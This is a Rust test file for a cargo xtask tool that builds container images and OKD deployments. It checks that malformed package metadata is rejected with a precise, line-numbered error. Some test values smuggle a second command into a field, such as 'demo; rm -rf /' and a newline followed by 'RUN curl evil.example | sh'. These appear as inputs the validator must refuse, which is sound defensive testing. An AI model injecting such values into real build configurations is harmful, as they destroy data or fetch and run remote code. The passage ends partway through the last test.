//! Configuration tests: a table of bad `[package.metadata.s2i]` configurations, each run through
//! the real command (`ImageArgs::execute` on a small temporary workspace) and required to fail with
//! an error that names the key, the file and the line, without writing a single file; odd inputs
//! that must not panic; workspace defaults; and package selection with `-p`.
//!
//! The helpers here ([`Ws`], [`package`]) are shared with the rendering tests.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use xtask_s2i::ImageArgs;
use xtask_s2i::config::{KEYS, OKD_KEYS};
use xtask_s2i::sink::Buffer;

use crate::support;

/// A throwaway Cargo workspace in a temporary directory.
pub struct Ws {
    dir: tempfile::TempDir,
    root: PathBuf,
}

impl Ws {
    /// A workspace made of `files` (relative path → contents); `src/main.rs` is added when the
    /// files do not contain it.
    pub fn new(files: &[(&str, &str)]) -> Ws {
        let dir = tempfile::Builder::new()
            .prefix("xtask-s2i-it-")
            .tempdir()
            .expect("create a temporary directory");
        // The path cargo reports (and so the path in messages) is the canonical one.
        let root = dir.path().canonicalize().expect("canonicalize the tempdir");
        let ws = Ws { dir, root };
        for (rel, text) in files {
            ws.write(rel, text);
        }
        if !files.iter().any(|(rel, _)| *rel == "src/main.rs") && files.len() == 1 {
            ws.write("src/main.rs", "fn main() {}\n");
        }
        ws
    }

    /// A single-package workspace whose `[package.metadata.s2i]` body is `s2i`.
    pub fn package(s2i: &str) -> Ws {
        Ws::new(&[("Cargo.toml", &package("demo", s2i))])
    }

    pub fn root(&self) -> &Path {
        &self.root
    }

    pub fn manifest(&self) -> PathBuf {
        self.root.join("Cargo.toml")
    }

    pub fn write(&self, rel: &str, text: &str) {
        let path = self.root.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    pub fn read(&self, rel: &str) -> String {
        let path = self.root.join(rel);
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("read `{}`: {e}", path.display()))
    }

    /// `cargo xtask image --no-build --manifest-path <ws>/Cargo.toml` plus what `f` changes.
    pub fn args(&self, f: impl FnOnce(&mut ImageArgs)) -> ImageArgs {
        let mut args = ImageArgs {
            manifest_path: Some(self.manifest()),
            no_build: true,
            ..ImageArgs::default()
        };
        f(&mut args);
        args
    }

    /// The validated configuration of every package with `[package.metadata.s2i]`, by name: what
    /// the Plans of [`Ws::run`] are made from (a Plan keeps its configuration private).
    pub fn configs(&self) -> BTreeMap<String, xtask_s2i::Config> {
        let metadata = xtask_s2i::config::read_metadata(Some(&self.manifest())).unwrap();
        metadata
            .workspace_packages()
            .into_iter()
            .filter(|p| p.metadata.get("s2i").is_some())
            .map(|p| {
                let config = xtask_s2i::config::load(&metadata, p).unwrap();
                (p.name.to_string(), config)
            })
            .collect()
    }

    /// Runs `--no-build` with the default flags.
    pub fn run(&self) -> anyhow::Result<xtask_s2i::Summary> {
        self.args(|_| {}).execute(&Buffer::new())
    }

    /// Runs `--no-build` and returns the error's full text (`{:#}`), failing if it succeeds.
    pub fn fail(&self, args: ImageArgs) -> String {
        match args.execute(&Buffer::new()) {
            Ok(_) => panic!(
                "expected an error for\n{}",
                std::fs::read_to_string(self.manifest()).unwrap_or_default()
            ),
            Err(e) => format!("{e:#}"),
        }
    }

    /// Every file and directory under the workspace with its size (the temp dir itself excluded).
    pub fn listing(&self) -> BTreeMap<PathBuf, u64> {
        let mut out = BTreeMap::new();
        walk(&self.root, &self.root, &mut out);
        out
    }

    #[allow(dead_code)]
    pub fn keep(self) -> PathBuf {
        self.dir.keep()
    }
}

fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, u64>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        let meta = entry.metadata().unwrap();
        out.insert(path.strip_prefix(root).unwrap().to_path_buf(), meta.len());
        if meta.is_dir() {
            walk(root, &path, out);
        }
    }
}

/// The manifest of a package `name` (its own workspace) with `s2i` as `[package.metadata.s2i]`.
pub fn package(name: &str, s2i: &str) -> String {
    format!(
        "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\nrepository = \"https://example.com/acme/{name}.git\"\n\n[workspace]\n\n[package.metadata.s2i]\n{s2i}\n"
    )
}

/// One bad configuration and what its error must say.
struct Case {
    name: &'static str,
    /// The files of the workspace; a lone `Cargo.toml` gets a `src/main.rs`.
    files: Vec<(&'static str, String)>,
    /// The dotted key the message names.
    key: &'static str,
    /// The file the message names, relative to the workspace.
    file: &'static str,
    /// A text whose (first) line the message points at, or `None` when no line applies.
    line_of: Option<&'static str>,
    /// More texts the message must contain (the reason, the note).
    says: &'static [&'static str],
    /// `--builder-base`.
    builder_base: Option<&'static str>,
}

fn case(name: &'static str, s2i: &str, key: &'static str) -> Case {
    Case {
        name,
        files: vec![("Cargo.toml", package("demo", s2i))],
        key,
        file: "Cargo.toml",
        line_of: None,
        says: &[],
        builder_base: None,
    }
}

impl Case {
    fn at(mut self, text: &'static str) -> Case {
        self.line_of = Some(text);
        self
    }
    fn says(mut self, says: &'static [&'static str]) -> Case {
        self.says = says;
        self
    }
    fn files(mut self, files: Vec<(&'static str, String)>) -> Case {
        self.files = files;
        self
    }
    fn in_file(mut self, file: &'static str) -> Case {
        self.file = file;
        self
    }
    fn builder_base(mut self, b: &'static str) -> Case {
        self.builder_base = Some(b);
        self
    }

    /// What the error message `msg` of this case, run in `ws`, fails to say.
    fn problems(&self, ws: &Ws, msg: &str) -> Vec<String> {
        let mut problems = Vec::new();
        if !msg.contains(&format!("`{}", self.key)) {
            problems.push(format!("does not name the key `{}`", self.key));
        }
        let file = ws.root().join(self.file);
        let line = self
            .line_of
            .map(|needle| line_of(&ws.read(self.file), needle));
        let place = match (self.builder_base, line) {
            (Some(_), _) => String::new(),
            (None, Some(line)) => format!("{}:{line}`", file.display()),
            (None, None) => format!("{}", file.display()),
        };
        if !msg.contains(&place) {
            problems.push(format!("does not name `{place}`"));
        }
        for s in self.says {
            if !msg.contains(s) {
                problems.push(format!("does not say {s:?}"));
            }
        }
        if !msg.contains("\nnote: ") {
            problems.push("has no `note:` that teaches".into());
        }
        if msg.starts_with(|c: char| c.is_uppercase()) {
            problems.push("does not start lowercase".into());
        }
        problems
    }
}

fn bad_configurations() -> Vec<Case> {
    [
        bad_keys(),
        bad_types(),
        bad_images_and_tags(),
        bad_builder_packages(),
        what_the_cluster_refuses(),
        bad_users_and_ports(),
        bad_binaries(),
        bad_environment_and_labels(),
        bad_image_names_from_the_package(),
        bad_okd_sources(),
        bad_okd_directories_and_webhooks(),
        bad_okd_workloads(),
        bad_okd_builds_and_credentials(),
        bad_empty_values(),
        bad_features_and_profiles(),
        bad_workspace_defaults(),
        bad_workspace_members_and_flags(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// Unknown keys (pass one).
fn bad_keys() -> Vec<Case> {
    vec![
        case(
            "unknown key",
            r#"colour = "red""#,
            "package.metadata.s2i.colour",
        )
        .at("colour")
        .says(&[
            "unknown key `colour`",
            "the keys of `[package.metadata.s2i]` are",
        ]),
        case("typo'd key", "prot = 8080", "package.metadata.s2i.prot")
            .at("prot")
            .says(&["did you mean `port`?"]),
        case(
            "snake_case key",
            r#"builder_base = "rust:1""#,
            "package.metadata.s2i.builder_base",
        )
        .at("builder_base")
        .says(&["did you mean `builder-base`?"]),
        case(
            "unknown key in okd",
            "[package.metadata.s2i.okd]\nnamspace = \"demo\"",
            "package.metadata.s2i.okd.namspace",
        )
        .at("namspace")
        .says(&["did you mean `namespace`?", "[package.metadata.s2i.okd]"]),
        case(
            "unknown key in user",
            "user = { buildr = 2000 }",
            "package.metadata.s2i.user.buildr",
        )
        .at("user")
        .says(&["did you mean `builder`?"]),
        case(
            "unknown key in okd.build-resources",
            "okd = { build-resources = { limit = { cpu = \"1\" } } }",
            "package.metadata.s2i.okd.build-resources.limit",
        )
        .at("okd")
        .says(&["did you mean `limits`?"]),
    ]
}

/// Values of the wrong type (pass two).
fn bad_types() -> Vec<Case> {
    vec![
        case("port as a string", r#"port = "8080""#, "package.metadata.s2i.port")
            .at("port")
            .says(&["wrong type: expected an integer, found the string `\"8080\"`", "port = 8080"]),
        case("port as a float", "port = 8080.0", "package.metadata.s2i.port")
            .at("port")
            .says(&["expected an integer, found the number `8080.0`"]),
        case("port as nan", "port = nan", "package.metadata.s2i.port")
            .at("port")
            .says(&["`nan` or `inf`"]),
        case("port as a date", "port = 1979-05-27", "package.metadata.s2i.port")
            .at("port")
            .says(&["found a date-time"]),
        case("okd as an array", "okd = []", "package.metadata.s2i.okd")
            .at("okd")
            .says(&["expected a table, found an array"]),
        case("vendor as a string", r#"vendor = "yes""#, "package.metadata.s2i.vendor")
            .at("vendor")
            .says(&["expected a boolean, found the string `\"yes\"`"]),
        case("strip as a string", r#"strip = "symbols""#, "package.metadata.s2i.strip")
            .at("strip")
            .says(&["expected a boolean, found the string `\"symbols\"`"]),
        case("features not an array", r#"features = "tls""#, "package.metadata.s2i.features")
            .at("features")
            .says(&["expected an array of strings, found the string"]),
        case("env not a table", r#"env = "RUST_LOG=info""#, "package.metadata.s2i.env")
            .at("env")
            .says(&["expected a table of strings, found the string"]),
        case("labels value not a string", "labels = { team = 5 }", "package.metadata.s2i.labels.team")
            .at("labels")
            .says(&["expected a string, found the number `5`"]),
        case(
            "pull-policy not a choice",
            r#"pull-policy = "sometimes""#,
            "package.metadata.s2i.pull-policy",
        )
        .at("pull-policy")
        .says(&["if-not-present", "always", "never"]),
        case("tls not a choice", "okd = { tls = \"mtls\" }", "package.metadata.s2i.okd.tls")
            .at("okd")
            .says(&["edge", "passthrough"]),
        case("s2i not a table", "", "package.metadata.s2i")
            .files(vec![(
                "Cargo.toml",
                "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n[package.metadata]\ns2i = 5\n".into(),
            )])
            .at("s2i = 5")
            .says(&["expected a table"]),
    ]
}

/// Image names and tags.
/// What the configuration would accept but the cluster refuses: a privileged port, TLS sent to a
/// plain-HTTP program, a request above its limit once the defaults are merged.
fn what_the_cluster_refuses() -> Vec<Case> {
    vec![
        case("port 80", "port = 80", "package.metadata.s2i.port")
            .at("port")
            .says(&["80 is a privileged port", "ip_unprivileged_port_start=1024", "port = 8080"]),
        case(
            "passthrough to a plain-HTTP program",
            "port = 8080\n\n[package.metadata.s2i.okd]\ntls = \"passthrough\"",
            "package.metadata.s2i.okd.tls",
        )
        .at("tls")
        .says(&["503", "serves-tls = true", "edge"]),
        case(
            "reencrypt to a plain-HTTP program",
            "port = 8080\n\n[package.metadata.s2i.okd]\ntls = \"reencrypt\"",
            "package.metadata.s2i.okd.tls",
        )
        .at("tls")
        .says(&["`tls = \"reencrypt\"`", "serves-tls = true"]),
        case(
            "edge in front of a TLS program",
            "port = 8443\n\n[package.metadata.s2i.okd]\ntls = \"edge\"\nserves-tls = true",
            "package.metadata.s2i.okd.tls",
        )
        .at("tls")
        .says(&["sends plain HTTP", "passthrough"]),
        case(
            "env-from with both kinds",
            "[package.metadata.s2i.okd]\nenv-from = [{ secret = \"db\", config-map = \"app\" }]",
            "package.metadata.s2i.okd.env-from.0",
        )
        .at("env-from")
        .says(&["names one Secret or one ConfigMap"]),
        case(
            "env-from with a bad name",
            "[package.metadata.s2i.okd]\nenv-from = [{ config-map = \"App_Config\" }]",
            "package.metadata.s2i.okd.env-from.0.config-map",
        )
        .at("env-from")
        .says(&["App_Config"]),
        case(
            "memory request above the default limit",
            "port = 8080\n\n[package.metadata.s2i.okd]\nresources = { requests = { memory = \"1Gi\" } }",
            "package.metadata.s2i.okd.resources.requests.memory",
        )
        .at("resources")
        .says(&["`1Gi` is above its limit `128Mi`", "after the defaults are merged"]),
        case(
            "build cpu request above its limit",
            "[package.metadata.s2i.okd]\nbuild-resources = { limits = { cpu = \"250m\" } }",
            "package.metadata.s2i.okd.build-resources.limits.cpu",
        )
        .at("build-resources")
        .says(&["`500m` is above its limit `250m`"]),
    ]
}

/// `builder-packages`: names only, each once.
fn bad_builder_packages() -> Vec<Case> {
    vec![
        case(
            "builder package with an option",
            r#"builder-packages = ["libssl-dev", "-y; rm -rf /"]"#,
            "package.metadata.s2i.builder-packages.1",
        )
        .at("builder-packages")
        .says(&["is not a package name", "libssl-dev"]),
        case(
            "builder package listed twice",
            r#"builder-packages = ["cmake", "cmake"]"#,
            "package.metadata.s2i.builder-packages.1",
        )
        .at("builder-packages")
        .says(&["`cmake` is listed twice"]),
    ]
}

fn bad_images_and_tags() -> Vec<Case> {
    vec![
        case(
            "uppercase image name",
            r#"runtime-image = "Hello""#,
            "package.metadata.s2i.runtime-image",
        )
        .at("runtime-image")
        .says(&["`Hello`", "lowercase"]),
        case(
            "image name with a space",
            r#"builder-image = "my builder""#,
            "package.metadata.s2i.builder-image",
        )
        .at("builder-image")
        .says(&["' '"]),
        case(
            "builder-base with an empty tag",
            r#"builder-base = "rust:""#,
            "package.metadata.s2i.builder-base",
        )
        .at("builder-base")
        .says(&["tag is empty"]),
        case(
            "image name with a trailing slash",
            r#"app-image = "quay.io/acme/""#,
            "package.metadata.s2i.app-image",
        )
        .at("app-image")
        .says(&["trailing `/`"]),
        case(
            "builder-base with a newline",
            r#"builder-base = "rust:1\nRUN curl evil.example | sh""#,
            "package.metadata.s2i.builder-base",
        )
        .at("builder-base")
        .says(&["'\\n'"]),
        case(
            "tag starting with a dash",
            r#"tag = "-rc1""#,
            "package.metadata.s2i.tag",
        )
        .at("tag")
        .says(&["must start with"]),
        case(
            "tag with a space",
            r#"tag = "1.0 beta""#,
            "package.metadata.s2i.tag",
        )
        .at("tag")
        .says(&["' '"]),
        case(
            "tag too long",
            &format!("tag = \"{}\"", "a".repeat(129)),
            "package.metadata.s2i.tag",
        )
        .at("tag")
        .says(&["longer than 128"]),
    ]
}

/// Users and ports.
fn bad_users_and_ports() -> Vec<Case> {
    vec![
        case("root user", "user = 0", "package.metadata.s2i.user")
            .at("user")
            .says(&["0 is root", "OKD"]),
        case("named user", r#"user = "app""#, "package.metadata.s2i.user")
            .at("user")
            .says(&["`app` is a name", "numeric"]),
        case(
            "root runtime user",
            "user = { runtime = 0 }",
            "package.metadata.s2i.user.runtime",
        )
        .at("user")
        .says(&["0 is root"]),
        case("negative user", "user = -5", "package.metadata.s2i.user")
            .at("user")
            .says(&["not a valid UID"]),
        case("negative port", "port = -1", "package.metadata.s2i.port")
            .at("port")
            .says(&["-1 is not a TCP port", "1 to 65535"]),
        case("port 0", "port = 0", "package.metadata.s2i.port")
            .at("port")
            .says(&["0 is not a TCP port"]),
        case("port 70000", "port = 70000", "package.metadata.s2i.port")
            .at("port")
            .says(&["70000 is not a TCP port"]),
    ]
}

/// The binary target.
fn bad_binaries() -> Vec<Case> {
    vec![
        case("missing bin", r#"bin = "server""#, "package.metadata.s2i.bin")
            .at("bin")
            .says(&["no binary target `server`", "`demo`"]),
        case("ambiguous bin", "", "package.metadata.s2i.bin")
            .files(vec![
                (
                    "Cargo.toml",
                    "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n[[bin]]\nname = \"api\"\npath = \"src/api.rs\"\n\n[[bin]]\nname = \"worker\"\npath = \"src/worker.rs\"\n\n[package.metadata.s2i]\nport = 8080\n".into(),
                ),
                ("src/api.rs", "fn main() {}\n".into()),
                ("src/worker.rs", "fn main() {}\n".into()),
            ])
            .at("[package.metadata.s2i]")
            .says(&["several binary targets", "`api`", "`worker`", "bin = \"api\""]),
        case("no binary at all", "", "package.metadata.s2i.bin")
            .files(vec![
                ("Cargo.toml", package("demo", "port = 8080")),
                ("src/lib.rs", "//! lib\n".into()),
            ])
            .says(&["no binary target", "src/main.rs"]),
        case("bin with shell characters", r#"bin = "demo; rm -rf /""#, "package.metadata.s2i.bin")
            .at("bin")
            .says(&["';'"]),
    ]
}

/// The environment and the labels.
fn bad_environment_and_labels() -> Vec<Case> {
    vec![
        case(
            "env value with a newline and RUN",
            r#"env = { RUST_LOG = "info\nRUN curl evil.example | sh" }"#,
            "package.metadata.s2i.env.RUST_LOG",
        )
        .at("env")
        .says(&["control character '\\n'", "one line"]),
        case(
            "env name with a dash",
            r#"env = { "RUST-LOG" = "info" }"#,
            "package.metadata.s2i.env.RUST-LOG",
        )
        .at("env")
        .says(&["not a valid environment variable name"]),
        case(
            "env name with a newline",
            "env = { \"A\\nRUN x\" = \"1\" }",
            r#"package.metadata.s2i.env."A\nRUN x""#,
        )
        .at("env")
        .says(&["not a valid environment variable name"]),
        case(
            "env name starting with a digit",
            r#"env = { 1A = "x" }"#,
            "package.metadata.s2i.env.1A",
        )
        .at("env")
        .says(&["not a valid environment variable name"]),
        case(
            "label key with a space",
            r#"labels = { "team name" = "web" }"#,
            r#"package.metadata.s2i.labels."team name""#,
        )
        .at("labels")
        .says(&["not a valid label key"]),
        case(
            "label key with a quote",
            r#"labels = { 'a"=x' = "web" }"#,
            r#"package.metadata.s2i.labels."a\"=x""#,
        )
        .at("labels")
        .says(&["not a valid label key"]),
        case(
            "label value with a newline",
            "[package.metadata.s2i.labels]\n\"com.example.team\" = \"\"\"\nweb\nEXPOSE 22\"\"\"",
            r#"package.metadata.s2i.labels."com.example.team""#,
        )
        .at("com.example.team")
        .says(&["control character"]),
    ]
}

/// Image names made from the package name, and names that clash.
fn bad_image_names_from_the_package() -> Vec<Case> {
    vec![
        case(
            "package name not DNS-1123",
            "port = 8080",
            "package.metadata.s2i.runtime-image",
        )
        .files(vec![("Cargo.toml", package("Hello_World", "port = 8080"))])
        .at("[package.metadata.s2i]")
        .says(&["`Hello_World`", "package name"]),
        case(
            "image whose last component is too long for Kubernetes",
            &format!("runtime-image = \"quay.io/acme/{}\"", "a".repeat(64)),
            "package.metadata.s2i.runtime-image",
        )
        .at("runtime-image")
        .says(&["ImageStream", "63 characters"]),
        case(
            "image names that clash",
            r#"app-image = "quay.io/acme/demo""#,
            "package.metadata.s2i",
        )
        .says(&["must end in different names"]),
    ]
}

/// `okd`: the namespace and the git source.
fn bad_okd_sources() -> Vec<Case> {
    vec![
        case(
            "bad namespace",
            r#"okd = { namespace = "My_NS" }"#,
            "package.metadata.s2i.okd.namespace",
        )
        .at("okd")
        .says(&["DNS-1123"]),
        case(
            "git-uri without scheme",
            r#"okd = { git-uri = "github.com/acme/x" }"#,
            "package.metadata.s2i.okd.git-uri",
        )
        .at("okd")
        .says(&["https://"]),
        case(
            "git-uri with a newline",
            "okd = { git-uri = \"https://x/y\\nz\" }",
            "package.metadata.s2i.okd.git-uri",
        )
        .at("okd")
        .says(&["control"]),
        case(
            "bad git-ref",
            r#"okd = { git-ref = "main..dev" }"#,
            "package.metadata.s2i.okd.git-ref",
        )
        .at("okd")
        .says(&["not a valid git ref"]),
        case(
            "package.repository not a git URL",
            "port = 8080",
            "package.repository",
        )
        .files(vec![(
            "Cargo.toml",
            package("demo", "port = 8080")
                .replace("https://example.com/acme/demo.git", "not a url"),
        )])
        .at("repository")
        .says(&["okd.git-uri"]),
    ]
}

/// `okd`: the directories and the webhooks.
fn bad_okd_directories_and_webhooks() -> Vec<Case> {
    vec![
        case(
            "absolute manifests-dir",
            r#"okd = { manifests-dir = "/etc/okd" }"#,
            "package.metadata.s2i.okd.manifests-dir",
        )
        .at("okd")
        .says(&["is absolute"]),
        case(
            "manifests-dir leaving the repository",
            r#"okd = { manifests-dir = "deploy/../../x" }"#,
            "package.metadata.s2i.okd.manifests-dir",
        )
        .at("okd")
        .says(&["`..`"]),
        case(
            "manifests-dir at the root",
            r#"okd = { manifests-dir = "./" }"#,
            "package.metadata.s2i.okd.manifests-dir",
        )
        .at("okd")
        .says(&["directory of their own"]),
        case(
            "context-dir leaving the repository",
            r#"okd = { context-dir = "../x" }"#,
            "package.metadata.s2i.okd.context-dir",
        )
        .at("okd")
        .says(&["`..`"]),
        case(
            "unknown webhook kind",
            r#"okd = { webhooks = ["gitea"] }"#,
            "package.metadata.s2i.okd.webhooks",
        )
        .at("okd")
        .says(&["unknown webhook kind `gitea`", "`github`"]),
        case(
            "bad webhook secret",
            r#"okd = { webhooks = { github = "My Secret" } }"#,
            "package.metadata.s2i.okd.webhooks.github",
        )
        .at("okd")
        .says(&["DNS-1123"]),
    ]
}

/// `okd`: build resources, the workload and its probes.
fn bad_okd_workloads() -> Vec<Case> {
    vec![
        case(
            "bad resource quantity",
            "[package.metadata.s2i.okd.build-resources.limits]\nmemory = \"4 GB\"",
            "package.metadata.s2i.okd.build-resources.limits.memory",
        )
        .at("memory")
        .says(&["not a Kubernetes quantity"]),
        case(
            "unknown resource",
            "[package.metadata.s2i.okd.build-resources.limits]\ngpu = \"1\"",
            "package.metadata.s2i.okd.build-resources.limits.gpu",
        )
        .at("gpu")
        .says(&["unknown resource `gpu`", "`cpu`"]),
        case("cronjob without a schedule", "[package.metadata.s2i.okd]\nworkload = \"cronjob\"", "package.metadata.s2i.okd.workload")
            .at("workload")
            .says(&["needs a schedule", "schedule = "]),
        case("schedule without a cronjob", "port = 8080\n\n[package.metadata.s2i.okd]\nschedule = \"@daily\"", "package.metadata.s2i.okd.schedule")
            .at("schedule")
            .says(&["only for `workload = \"cronjob\"`"]),
        case("bad schedule", "[package.metadata.s2i.okd]\nworkload = \"cronjob\"\nschedule = \"every day\"", "package.metadata.s2i.okd.schedule")
            .at("schedule")
            .says(&["not a cron schedule", "five fields"]),
        case("cronjob with a port", "port = 8080\n\n[package.metadata.s2i.okd]\nworkload = \"cronjob\"\nschedule = \"@daily\"", "package.metadata.s2i.port")
            .at("port")
            .says(&["a CronJob serves no port"]),
        case("unknown workload", "[package.metadata.s2i.okd]\nworkload = \"statefulset\"", "package.metadata.s2i.okd.workload")
            .at("workload")
            .says(&["`statefulset`", "deployment"]),
        case("health-path without a port", "[package.metadata.s2i.okd]\nhealth-path = \"/healthz\"", "package.metadata.s2i.okd.health-path")
            .at("health-path")
            .says(&["need a Deployment with a `port`"]),
        case("relative health-path", "port = 8080\n\n[package.metadata.s2i.okd]\nhealth-path = \"healthz\"", "package.metadata.s2i.okd.health-path")
            .at("health-path")
            .says(&["not an HTTP path"]),
    ]
}

/// `okd`: the tag, the build timeout, credentials, resources and replicas.
fn bad_okd_builds_and_credentials() -> Vec<Case> {
    vec![
        case(
            "okd tag with a colon",
            "[package.metadata.s2i.okd]\ntag = \"a:b\"",
            "package.metadata.s2i.okd.tag",
        )
        .at("tag")
        .says(&["version goes into the image labels"]),
        case(
            "build-timeout too short",
            "[package.metadata.s2i.okd]\nbuild-timeout = 5",
            "package.metadata.s2i.okd.build-timeout",
        )
        .at("build-timeout")
        .says(&["5 seconds", "from 60 to 86400"]),
        case(
            "bad source-secret",
            "[package.metadata.s2i.okd]\nsource-secret = \"My Secret\"",
            "package.metadata.s2i.okd.source-secret",
        )
        .at("source-secret")
        .says(&["not a valid Kubernetes name"]),
        case(
            "unauthenticated webhooks without webhooks",
            "[package.metadata.s2i.okd]\nunauthenticated-webhooks = true",
            "package.metadata.s2i.okd.unauthenticated-webhooks",
        )
        .at("unauthenticated-webhooks")
        .says(&["no webhook"]),
        case(
            "unknown container resource",
            "[package.metadata.s2i.okd.resources.requests]\ngpu = \"1\"",
            "package.metadata.s2i.okd.resources.requests.gpu",
        )
        .at("gpu")
        .says(&["unknown resource `gpu`"]),
        case(
            "unknown key in resources",
            "[package.metadata.s2i.okd.resources]\nlimit = {}",
            "package.metadata.s2i.okd.resources.limit",
        )
        .at("limit")
        .says(&["did you mean `limits`"]),
        case(
            "replicas negative",
            "okd = { replicas = -1 }",
            "package.metadata.s2i.okd.replicas",
        )
        .at("okd")
        .says(&["`-1` is out of range"]),
    ]
}

/// Empty values.
fn bad_empty_values() -> Vec<Case> {
    vec![
        case("empty tag", r#"tag = """#, "package.metadata.s2i.tag")
            .at("tag")
            .says(&["empty"]),
        case("empty bin", r#"bin = """#, "package.metadata.s2i.bin")
            .at("bin")
            .says(&["empty"]),
        case(
            "empty builder-base",
            r#"builder-base = """#,
            "package.metadata.s2i.builder-base",
        )
        .at("builder-base")
        .says(&["empty"]),
        case(
            "empty runtime-image",
            r#"runtime-image = """#,
            "package.metadata.s2i.runtime-image",
        )
        .at("runtime-image")
        .says(&["empty"]),
        case(
            "empty profile",
            r#"profile = """#,
            "package.metadata.s2i.profile",
        )
        .at("profile")
        .says(&["empty"]),
        case(
            "empty namespace",
            r#"okd = { namespace = "" }"#,
            "package.metadata.s2i.okd.namespace",
        )
        .at("okd")
        .says(&["empty"]),
    ]
}

/// Features and the profile.
fn bad_features_and_profiles() -> Vec<Case> {
    vec![
        case(
            "empty feature",
            r#"features = [""]"#,
            "package.metadata.s2i.features.0",
        )
        .at("features")
        .says(&["empty"]),
        case(
            "empty env name",
            r#"env = { "" = "x" }"#,
            r#"package.metadata.s2i.env."""#,
        )
        .at("env")
        .says(&["name is empty"]),
        case(
            "unknown feature",
            r#"features = ["tls"]"#,
            "package.metadata.s2i.features.0",
        )
        .at("features")
        .says(&["no feature `tls`", "declares no features"]),
        case(
            "profile with a space",
            r#"profile = "release; rm""#,
            "package.metadata.s2i.profile",
        )
        .at("profile")
        .says(&["';'"]),
    ]
}

/// Workspace defaults.
fn bad_workspace_defaults() -> Vec<Case> {
    vec![
        case("workspace defaults with a wrong type", "", "workspace.metadata.s2i.port")
            .files(vec![
                (
                    "Cargo.toml",
                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nport = \"http\"\n".into(),
                ),
                (
                    "app/Cargo.toml",
                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\n".into(),
                ),
                ("app/src/main.rs", "fn main() {}\n".into()),
            ])
            .at("port")
            .says(&["wrong type"]),
        case("workspace defaults with an unknown key", "", "workspace.metadata.s2i.okd.git-url")
            .files(vec![
                (
                    "Cargo.toml",
                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i.okd]\ngit-url = \"https://x/y.git\"\n".into(),
                ),
                (
                    "app/Cargo.toml",
                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\n".into(),
                ),
                ("app/src/main.rs", "fn main() {}\n".into()),
            ])
            .at("git-url")
            .says(&["did you mean `git-uri`?", "[workspace.metadata.s2i.okd]"]),
        case("workspace default invalid for the package", "", "workspace.metadata.s2i.user")
            .files(vec![
                (
                    "Cargo.toml",
                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nuser = 0\n".into(),
                ),
                (
                    "app/Cargo.toml",
                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\nport = 8080\n".into(),
                ),
                ("app/src/main.rs", "fn main() {}\n".into()),
            ])
            .at("user")
            .says(&["0 is root"]),
    ]
}

/// Per-package keys as workspace defaults, members, and the `--builder-base` flag.
fn bad_workspace_members_and_flags() -> Vec<Case> {
    vec![
        case("a per-package key as a workspace default", "", "workspace.metadata.s2i.bin")
            .files(vec![
                (
                    "Cargo.toml",
                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nbin = \"app\"\n".into(),
                ),
                (
                    "app/Cargo.toml",
                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\nport = 8080\n".into(),
                ),
                ("app/src/main.rs", "fn main() {}\n".into()),
            ])
            .at("bin")
            .says(&["cannot be a workspace default", "[package.metadata.s2i]"]),
        case("okd.context-dir as a workspace default", "", "workspace.metadata.s2i.okd.context-dir")
            .files(vec![
                (
                    "Cargo.toml",
                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i.okd]\ncontext-dir = \"app\"\n".into(),
                ),
                (
                    "app/Cargo.toml",
                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\nport = 8080\n".into(),
                ),
                ("app/src/main.rs", "fn main() {}\n".into()),
            ])
            .at("context-dir")
            .says(&["cannot be a workspace default"]),
        case("package error in a member names the member's file", "", "package.metadata.s2i.port")
            .files(vec![
                (
                    "Cargo.toml",
                    "[workspace]\nmembers = [\"app\"]\nresolver = \"2\"\n\n[workspace.metadata.s2i]\nport = 8080\n".into(),
                ),
                (
                    "app/Cargo.toml",
                    "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[package.metadata.s2i]\nport = 0\n".into(),
                ),
                ("app/src/main.rs", "fn main() {}\n".into()),
            ])
            .in_file("app/Cargo.toml")
            .at("port")
            .says(&["0 is not a TCP port"]),
        case("--builder-base not an image", "port = 8080", "builder-base")
            .builder_base("Not An Image")
            .says(&["XTASK_S2I_BUILDER_BASE", "--builder-base", "docker.io/library/rust:1-slim"]),
        case("--builder-base with a newline", "port = 8080", "builder-base")
            .builder_base("rust\nRUN id")
            .says(&["XTASK_S2I_BUILDER_BASE", "'\\n'"]),
    ]
}

/// The 1-based line of the first occurrence of `needle` in `text`.
fn line_of(text: &str, needle: &str) -> usize {
    let at = text
        .find(needle)
        .unwrap_or_else(|| panic!("{needle:?} is not in\n{text}"));
    text[..at].matches('\n').count() + 1
}

#[test]
fn bad_configurations_are_refused_with_a_teaching_error_and_write_nothing() {
    let cases = bad_configurations();
    assert!(cases.len() >= 25, "only {} cases", cases.len());
    let mut failures = Vec::new();
    for case in cases {
        let files: Vec<(&str, &str)> = case.files.iter().map(|(p, t)| (*p, t.as_str())).collect();
        let ws = Ws::new(&files);
        let before = ws.listing();
        let args = ws.args(|a| a.builder_base = case.builder_base.map(String::from));
        let result = args.execute(&Buffer::new());
